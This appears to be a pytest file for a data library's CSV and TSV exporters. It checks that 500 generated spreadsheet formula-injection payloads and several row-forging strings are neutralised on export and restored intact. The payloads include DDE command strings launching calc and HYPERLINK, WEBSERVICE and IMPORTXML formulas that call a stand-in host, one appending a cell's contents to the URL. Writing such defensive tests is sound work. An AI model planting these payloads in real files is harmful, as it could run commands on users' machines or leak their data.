"""No cell of a table is run by a spreadsheet, none is split, no row is forged (500 payloads)."""

import csv
import io
import itertools

import pytest
from makers import practice

from gpkit.exporters import How
from gpkit.exporters.csv import export as export_csv
from gpkit.exporters.csv import guard, restore
from gpkit.exporters.tsv import export as export_tsv

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
BEFORE = [
    "",
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    " \t ",
    " " * 200,
]
AFTER = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://e.example?"&A1,"x")',
    'WEBSERVICE("http://e.example")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'IMPORTXML("http://e.example","//a")',
]
PAYLOADS = [f"{a}{b}{c}" for a, b, c in itertools.product(BEFORE, SIGNS, AFTER)][:500]
FORGED = ['a","b', "a\r\nforged,row", 'a"\nforged,row', "a\rforged", "a\tb", ";", '"', "''", "'=1"]


def is_run(cell):
    """Tell whether a spreadsheet would take a cell for a formula, blanks and invisibles aside."""
    return cell.lstrip("".join(BEFORE) + "\x00\x0b\x0c\x1b")[:1] in SIGNS


def test_there_are_500():
    assert len(set(PAYLOADS)) == 500


@pytest.mark.parametrize(("export", "delimiter"), [(export_csv, ","), (export_tsv, "\t")])
@pytest.mark.parametrize("shape", ["wide", "long"])
def test_no_payload_is_run(export, delimiter, shape):
    out = io.StringIO(newline="")
    base = practice(5)
    titled = []
    for number, payload in enumerate([*PAYLOADS, *FORGED]):
        seen = base.observed[0]._replace(label=payload, values=())
        one = base._replace(id=f"generic/{number}", title=payload, observed=(seen,))
        titled.append(one)
    export(titled, How(shape), out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == 1 + len(titled)
    assert [cell for row in rows for cell in row if is_run(cell)] == []
    place = rows[0].index("label" if shape == "long" else "title")
    assert [restore(row[place]) for row in rows[1:]] == [*PAYLOADS, *FORGED]


def test_what_is_no_formula_stays_as_it_is():
    for words in ("plain", "a=b", "3 - 2", "“=”", "Ελλάδα", "10-12", "[]", "x@y.example", ""):
        assert guard(words) == words
